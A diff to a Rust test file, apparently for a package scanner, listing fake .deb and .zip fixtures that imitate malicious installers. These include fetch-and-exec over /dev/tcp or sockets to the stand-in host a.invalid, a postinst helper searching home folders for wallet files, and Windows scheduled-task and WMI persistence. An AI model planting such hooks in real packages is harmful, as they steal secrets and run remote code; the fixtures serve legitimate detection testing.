@@ -269,7 +269,7 @@ fn shapes() -> Vec<(&'static str, Vec<u8>)> {
         ("a service of D-Bus", deb(&[], &[text("./usr/share/dbus-1/services/x.service", "[D-BUS Service]\nName=x\nExec=/usr/bin/perl /usr/lib/x/s.pl\n"), text("./usr/lib/x/s.pl", "#!/usr/bin/perl\nexit 0;\nuse HTTP::Tiny;\neval $body;\n")])),
         ("completions of a shell", deb(&[], &[sh("./usr/share/bash-completion/completions/x", "cat < /dev/tcp/a.invalid/80 > /tmp/x\n. \"$f\"\n")])),
         ("a program of the network's dispatcher", deb(&[], &[py("./etc/NetworkManager/dispatcher.d/90-x", "import socket, marshal\ns = socket.create_connection(a)\nexec(marshal.loads(s.recv(9)))\n")])),
-        ("a package's script starts a helper", deb(&[("postinst", format!("{SHELL}/usr/bin/python3 /usr/lib/x/h.py\n").into_bytes())], &[py("./usr/lib/x/h.py", "import urllib.request\nf = glob('/home/*/*allet*')\n")])),
+        ("a package's script starts a helper", deb(&[("postinst", format!("{SHELL}/usr/bin/python3 /usr/lib/x/h.py\n").into_bytes())], &[py("./usr/lib/x/h.py", "import urllib.request\nf = glob(h + '/*allet*')\n")])),
         ("a script of Windows' script host", zip(&[text("Setup.wsf", "<?xml version=\"1.0\"?>\n<job><script language=\"JScript\">\nWScript.Quit(0);\nvar t=new ActiveXObject('Sched'+'ule.Service');t.GetFolder('\\\\').RegisterTaskDefinition(n,d,6);var q=new ActiveXObject('MSXML2.ServerXMLHTTP');var s=new ActiveXObject('ADODB.Stream');s.SaveToFile(p)\n</script></job>")])),
         ("a consumer of events", zip(&[text("setup/x.mof", "instance of CommandLineEventConsumer { CommandLineTemplate = \"x\"; };")])),
         ("an installer from an address", zip(&[text("x.appinstaller", "<?xml version=\"1.0\"?><AppInstaller Uri=\"https://a.invalid/x.appinstaller\"/>")])),
